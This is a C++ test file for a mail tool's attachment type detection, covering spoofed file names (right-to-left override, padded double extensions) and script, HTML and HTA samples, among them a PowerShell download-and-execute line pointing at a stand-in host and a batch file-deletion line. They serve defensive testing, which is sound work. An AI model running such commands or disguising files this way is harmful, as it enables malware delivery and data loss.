// Tests for attach/filetype: the strict reading of file names, the class tables,
// and libmagic's detection of real files (ClamAV's test files, the corpus).
#include "attach/filetype.hpp"

#include "mime/analysis.hpp"
#include "support/files.hpp"

#include <catch2/catch.hpp>

#include <algorithm>
#include <atomic>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

using namespace postern::attach;

namespace {

using postern::test::slurp;

}  // namespace

TEST_CASE("file names are read as strictly as Windows and a mail client could") {
  struct Row {
    std::string name, ext, inner;
    bool bidi, invisible, control, trailing, padded;
  };
  const std::vector<Row> rows = {
      {"report.pdf", "pdf", "", false, false, false, false, false},
      {"Report.PDF", "pdf", "", false, false, false, false, false},
      {"bill.pdf.exe", "exe", "pdf", false, false, false, false, false},
      {"invoice.exe. ", "exe", "", false, false, false, true, false},
      {"invoice.exe...", "exe", "", false, false, false, true, false},
      // "photo_\u202Egpj.exe" shows as photo_exe.jpg
      {"photo_\u202Egpj.exe", "exe", "", true, false, false, false, false},
      {"scan.pdf                 .js", "js", "pdf", false, false, false, false, true},
      {"doc\u200B.docx", "docx", "", false, true, false, false, false},
      {"a\tb.txt", "txt", "", false, false, true, false, false},
      {"no_extension", "", "", false, false, false, false, false},
      {"bbkebdlbmdgbkdig.", "", "", false, false, false, false, false},  // usrp ham: harmless
      {".bashrc", "bashrc", "", false, false, false, false, false},
      {"archive.tar.gz", "gz", "tar", false, false, false, false, false},
      {"dir/evil.exe", "exe", "", false, false, false, false, false},
      {"weird.this is not an ext", "", "", false, false, false, false, false},
  };
  for (const auto& r : rows) {
    INFO(r.name);
    NameFacts f = name_facts(r.name);
    CHECK(f.extension == r.ext);
    CHECK(f.inner_extension == r.inner);
    CHECK(f.bidi_control == r.bidi);
    CHECK(f.invisible == r.invisible);
    CHECK(f.control == r.control);
    CHECK(f.trailing_dots_or_spaces == r.trailing);
    CHECK(f.padded == r.padded);
  }
}

TEST_CASE("MIME types and extensions map to the classes a policy names") {
  struct Row {
    std::string mime;
    FileClass cls;
  };
  for (const auto& r : std::vector<Row>{
           {"application/vnd.microsoft.portable-executable", FileClass::Executable},
           {"application/x-dosexec", FileClass::Executable},
           {"application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            FileClass::OfficeOoxml},
           {"application/vnd.ms-excel.sheet.macroEnabled.12", FileClass::OfficeOoxml},
           {"application/vnd.oasis.opendocument.text", FileClass::Odf},
           {"application/pdf; charset=binary", FileClass::Pdf},
           {"image/svg+xml", FileClass::Html},
           {"image/png", FileClass::Image},
           {"text/csv", FileClass::Text},
           {"application/x-iso9660-image", FileClass::DiskImage},
           {"application/x-ms-shortcut", FileClass::Shortcut},
           {"application/encrypted", FileClass::Encrypted},
           {"application/octet-stream", FileClass::Unknown},
       }) {
    INFO(r.mime);
    CHECK(classify(r.mime) == r.cls);
  }
  CHECK(extension_class("exe") == FileClass::Executable);
  CHECK(extension_class("docm") == FileClass::OfficeOoxml);
  CHECK(extension_class("iso") == FileClass::DiskImage);
  CHECK(extension_class("one") == FileClass::OneNote);
  CHECK(extension_class("lnk") == FileClass::Shortcut);
  CHECK(extension_class("nosuch") == FileClass::Unknown);
  FileClass c;
  CHECK(parse_class("disk-image", c));
  CHECK(c == FileClass::DiskImage);
  CHECK_FALSE(parse_class("exe", c));
  for (FileClass k : {FileClass::Executable, FileClass::OfficeOle, FileClass::Html}) {
    FileClass back;
    REQUIRE(parse_class(to_string(k), back));
    CHECK(back == k);
  }
}

TEST_CASE("a zip-based document is compatible with a zip; a program is not a document") {
  CHECK(compatible(FileClass::OfficeOoxml, FileClass::Archive));
  CHECK(compatible(FileClass::Archive, FileClass::Odf));
  CHECK(compatible(FileClass::Script, FileClass::Html));
  CHECK(compatible(FileClass::OfficeOoxml, FileClass::Encrypted));
  CHECK_FALSE(compatible(FileClass::Pdf, FileClass::Executable));
  CHECK_FALSE(compatible(FileClass::OfficeOle, FileClass::Rtf));
  CHECK_FALSE(compatible(FileClass::Image, FileClass::Html));
}

TEST_CASE("libmagic detects what real files are, whatever their names") {
  const std::string clam = "/usr/share/clamav-testfiles/";
  const std::string ole = POSTERN_CORPUS_DIR "/attach/oletools/";
  struct Row {
    std::string path;
    FileClass cls;
  };
  const std::vector<Row> rows = {
      {clam + "clam.exe", FileClass::Executable},
      {clam + "clam.zip", FileClass::Archive},
      {clam + "clam.7z", FileClass::Archive},
      {clam + "clam.cab", FileClass::Archive},
      {clam + "clam.pdf", FileClass::Pdf},
      {clam + "clam.ole.doc", FileClass::OfficeOle},
      {clam + "clam.exe.html", FileClass::Html},
      {POSTERN_CORPUS_DIR "/attach/pdf/payload1.pdf", FileClass::Pdf},
      {ole + "encrypted/encrypted.docx", FileClass::Encrypted},
  };
  for (const auto& r : rows) {
    INFO(r.path);
    if (!std::filesystem::exists(r.path)) {
      WARN("missing fixture " << r.path << " (scripts/bootstrap installs clamav-testfiles)");
      continue;
    }
    CHECK(detect(slurp(r.path)).cls == r.cls);
  }
  // Nothing known: the generic type, never an error.
  CHECK(detect("").cls == FileClass::Unknown);
  std::string noise;
  for (int i = 0; i < 64; ++i) noise += std::string("\x00\xff\x13\x37", 4);
  CHECK(detect(noise).cls == FileClass::Unknown);
  // OneNote, which libmagic 5.44 does not know, by its format GUID.
  std::string one("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3", 16);
  CHECK(detect(one + std::string(64, '\0')).cls == FileClass::OneNote);
}

TEST_CASE("detection works from many threads at once (one libmagic handle per thread)") {
  const std::string exe = slurp("/usr/share/clamav-testfiles/clam.exe");
  if (exe.empty()) {
    WARN("clamav-testfiles not installed");
    return;
  }
  std::atomic<int> wrong{0};
  std::vector<std::thread> ts;
  for (int t = 0; t < 4; ++t)
    ts.emplace_back([&] {
      for (int i = 0; i < 200; ++i)
        if (detect(exe).cls != FileClass::Executable) ++wrong;
    });
  for (auto& t : ts) t.join();
  CHECK(wrong == 0);
}

TEST_CASE("what postern names without libmagic, libmagic names alike (every fixture file)") {
  std::vector<std::string> dirs = {"/usr/share/clamav-testfiles", POSTERN_CORPUS_DIR "/attach"};
  size_t compared = 0, own = 0;
  for (const auto& dir : dirs) {
    if (!std::filesystem::exists(dir)) continue;
    for (const auto& e : std::filesystem::recursive_directory_iterator(dir)) {
      if (!e.is_regular_file()) continue;
      const std::string data = slurp(e.path().string());
      const Detected ours = detect(data), magic = detect_with_libmagic(data);
      INFO(e.path().string() << ": " << ours.mime << " vs libmagic " << magic.mime);
      // The same class; or libmagic knows nothing where postern read the structure
      // (a docx whose first member libmagic does not expect).
      CHECK((ours.cls == magic.cls || magic.cls == FileClass::Unknown));
      if (ours.mime != magic.mime) ++own;
      ++compared;
    }
  }
  CHECK(compared > 100);
  CHECK(own <= 10);  // named otherwise than libmagic: a handful, all more precise
}

TEST_CASE(
    "text is named without libmagic's text pass only when that pass could name nothing else") {
  struct Row {
    std::string what, data;
    bool plain;     // named text without libmagic's text pass
    FileClass cls;  // what postern and libmagic both name it
  };
  using enum FileClass;
  const std::vector<Row> rows = {
      {"prose", "Dear Bob,\r\nthe invoice is attached.\r\n", true, Text},
      {"UTF-8 prose",
       "Gr\xC3\xBC\xC3\x9F"
       "e aus K\xC3\xB6ln \xE2\x80\x94 Rechnung anbei.\n",
       true, Text},
      {"CSV", "name,amount,date\nalice,10,2026-01-01\nbob,20,2026-01-02\n", true, Text},
      {"VBScript (.vbs: banned by its name)",
       "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc.exe\"\r\n", true, Text},
      {"PowerShell (.ps1: banned by its name)",
       "$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('http://x.test/a.ps1')\r\n", true,
       Text},
      {"batch", "@echo off\r\ndel /q C:\\temp\\*\r\n", false, Script},
      {"shell script", "#!/bin/sh\necho hi\n", false, Script},
      {"node script", "#!/usr/bin/env node\nconsole.log(1)\n", false, Script},
      {"JScript",
       "var s = new ActiveXObject('WScript.Shell');\n(function(){ s.Run('calc'); })();\n", false,
       Script},
      {"JavaScript module", "\"use strict\";\nconst fs = require('fs');\n", false, Script},
      {"HTML", "<html><body><script>alert(1)</script></body></html>\n", false, Html},
      {"HTML after a line of text", "Dear customer,\n\nsee <a href=\"http://x.test/\">here</a>\n",
       false, Html},
      {"HTA",
       "<HTML><HEAD><HTA:APPLICATION ID=\"x\"><script language=\"VBScript\">"
       "CreateObject(\"WScript.Shell\").Run \"calc\"</script></HEAD></HTML>\n",
       false, Html},
      {"SVG", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n", false,
       Html},
      {"XML", "<?xml version=\"1.0\"?>\n<root><a>1</a></root>\n", false, Text},
      {"a mail message", "Received: from x.test\nFrom: a@x.test\n\nbody\n", false, Unknown},
      {"vCalendar", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n", false, Calendar},
      {"netpbm image", "P1\n2 2\n0 1\n1 0\n", false, Image},
      {"UTF-16 text", std::string("\xFF\xFEh\0i\0\n\0", 8), false, Text},
      {"text with NULs", std::string("hello\0world\n", 12), false, Unknown},
      {"control characters", "ok\x1b[31mred\n", false, Text},
      {"empty", "", false, Unknown},
  };
  for (const auto& r : rows) {
    INFO(r.what);
    CHECK(plain_text(r.data) == r.plain);
    CHECK(detect_with_libmagic(r.data).cls == r.cls);
    CHECK(detect(r.data).cls == r.cls);
  }
}

TEST_CASE("text and HTML of real mail keep libmagic's class (a sample of the corpus)") {
  // Every 6th message of four folders: the decoded files, HTML sources and texts of
  // each. Scripts, HTML and programs are never named anything else; for the rest,
  // the class libmagic gives or, where libmagic knows nothing, text.
  std::vector<std::filesystem::path> paths;
  for (std::string dir : {"ham/spamassassin-hard", "phish/nazario", "spam/spamassassin", "mime"}) {
    const std::filesystem::path root = POSTERN_CORPUS_DIR "/" + dir;
    if (!std::filesystem::exists(root)) continue;
    for (const auto& e : std::filesystem::recursive_directory_iterator(root))
      if (e.is_regular_file()) paths.push_back(e.path());
  }
  std::sort(paths.begin(), paths.end());
  size_t compared = 0, plain = 0;
  for (size_t i = 0; i < paths.size(); i += 6) {
    const auto a = postern::mime::analyze(slurp(paths[i].string()));
    for (const auto& leaf : a.leaves)
      for (std::string_view data : {std::string_view(leaf.data), std::string_view(leaf.html),
                                    std::string_view(leaf.text)}) {
        if (data.empty()) continue;
        const Detected ours = detect(data), magic = detect_with_libmagic(data);
        INFO(paths[i].string() << " part " << leaf.part->path << ": " << ours.mime
                               << " vs libmagic " << magic.mime);
        const bool risky = magic.cls == FileClass::Script || magic.cls == FileClass::Html ||
                           magic.cls == FileClass::Executable;
        if (risky) CHECK(ours.cls == magic.cls);
        CHECK((ours.cls == magic.cls || magic.cls == FileClass::Unknown));
        plain += plain_text(data);
        ++compared;
      }
  }
  if (paths.empty())
    WARN("corpus not found at " POSTERN_CORPUS_DIR);
  else {
    CHECK(compared > 500);
    CHECK(plain > 250);  // the path is taken: most mail text is plain
  }
}
